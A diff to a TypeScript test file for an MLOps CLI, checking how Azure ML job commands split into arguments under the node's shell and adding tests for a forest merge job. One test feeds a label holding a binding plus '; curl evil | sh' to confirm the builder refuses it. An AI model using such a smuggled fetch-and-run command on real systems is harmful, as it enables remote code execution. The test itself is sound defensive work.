@@ -17,10 +17,12 @@ import { createProgram } from "../cli/main.js";
 import { type ModelFlags, modelFlagArgs, modelSpecFromFlags } from "../cli/model-flags.js";
 import { type GbdtOptions, resolveGbdtOptions } from "../gbdt/options.js";
 import type { ModelSpec } from "../jobs/train.js";
-import { type ClusterTrainInput, trainArgs, trainCommandJob } from "./train-job.js";
+import { type ClusterTrainInput, forestMergeJob, trainArgs, trainCommandJob } from "./train-job.js";
 
 // biome-ignore lint/suspicious/noTemplateCurlyInString: an Azure ML binding, not a JS template
 const DATA_BINDING = "${{inputs.data}}";
+// biome-ignore lint/suspicious/noTemplateCurlyInString: an Azure ML binding, not a JS template
+const SHARES_BINDING = "${{inputs.shares}}";
 
 /** The options of `mlops train` as the real program parses `args` (its action only captures them). */
 async function parseTrain(args: readonly string[]): Promise<ModelFlags & Record<string, unknown>> {
@@ -151,6 +153,24 @@ describe("the train job's arguments, parsed by the real CLI", () => {
   });
 });
 
+/** Where the node's Azure ML mounts a binding, as it substitutes `${{inputs.x}}` before the shell runs. */
+const mounted = (text: string) =>
+  text.replaceAll(/\$\{\{(inputs|outputs)\.(\w+)\}\}/g, "/mnt/$1/$2");
+
+/** The arguments `node dist/mlops.js` gets when the node's shell runs a train or merge job's command. */
+function argvOnNode(command: string): string[] {
+  const copy = " && cp -R /repo/.mlops/artifacts/. /mnt/outputs/model/";
+  const script = mounted(command);
+  expect(script.endsWith(copy)).toBe(true);
+  const words = script
+    .slice(0, -copy.length)
+    .replace(
+      /^cd \/repo && MLOPS_MODEL_OUTPUT_DIR=\/mnt\/outputs\/model node dist\/mlops\.js /,
+      "printf '%s\\0' ",
+    );
+  return execFileSync("sh", ["-c", words]).toString().split("\0").slice(0, -1);
+}
+
 describe("the train job's command", () => {
   it("splits under the node's shell into exactly the job's arguments", () => {
     const input = job(
@@ -160,14 +180,48 @@ describe("the train job's command", () => {
       },
       { label: "it's a label", name: "churn" },
     );
-    // Azure ML substitutes the bindings, then a shell runs the command: ask sh for its words.
-    const words = trainCommandJob(TEST_TARGET, input)
-      .command.replace(/^cd \/repo && (\S+=\S+ )*node dist\/mlops\.js /, "printf '%s\\0' ")
-      .replace(/ && cp -R .*$/, "")
-      .replace(DATA_BINDING, "/mnt/inputs/churn.csv");
-    const argv = execFileSync("sh", ["-c", words]).toString().split("\0").slice(0, -1);
-    expect(argv).toEqual(
-      trainArgs(input).map((a) => (a === DATA_BINDING ? "/mnt/inputs/churn.csv" : a)),
+    expect(argvOnNode(trainCommandJob(TEST_TARGET, input).command)).toEqual(
+      trainArgs(input).map(mounted),
+    );
+  });
+
+  it("gives the merge job exactly its arguments, whatever the label and name", () => {
+    // Any text but NUL (no argument can hold it) and `${{`, which Azure ML would substitute.
+    const text = fc.string({ unit: "binary", minLength: 1 }).filter((s) => !/\0|\$\{\{/.test(s));
+    fc.assert(
+      fc.property(text, text, (label, name) => {
+        const input = job({ algorithm: "forest", trees: 10 }, { label, name });
+        expect(argvOnNode(forestMergeJob(TEST_TARGET, input, "share-1").command)).toEqual(
+          trainArgs(input, SHARES_BINDING).map(mounted),
+        );
+      }),
+      { numRuns: 40 },
+    );
+  });
+
+  it("adds --from-shares to the merge job's arguments, not inside a label that looks like flags", () => {
+    const input = job({ algorithm: "forest", trees: 10 }, { label: "a --artifacts b" });
+    const argv = argvOnNode(forestMergeJob(TEST_TARGET, input, "share-1").command);
+    expect(argv.slice(argv.indexOf("--label"), argv.indexOf("--label") + 2)).toEqual([
+      "--label",
+      "a --artifacts b",
+    ]);
+    expect(argv.slice(argv.indexOf("--from-shares"))).toEqual([
+      "--from-shares",
+      "/mnt/inputs/shares",
+      "--artifacts",
+      ".mlops/artifacts",
+      "--json",
+    ]);
+  });
+
+  it("refuses an argument holding a binding Azure ML would substitute into the shell command", () => {
+    const input = job(
+      { algorithm: "forest", trees: 10 },
+      { label: `${DATA_BINDING}; curl evil | sh` },
+    );
+    expect(() => trainCommandJob(TEST_TARGET, input)).toThrow(
+      /^--label must not contain \$\{\{ with --target azureml: Azure ML would substitute it/,
     );
   });
 });
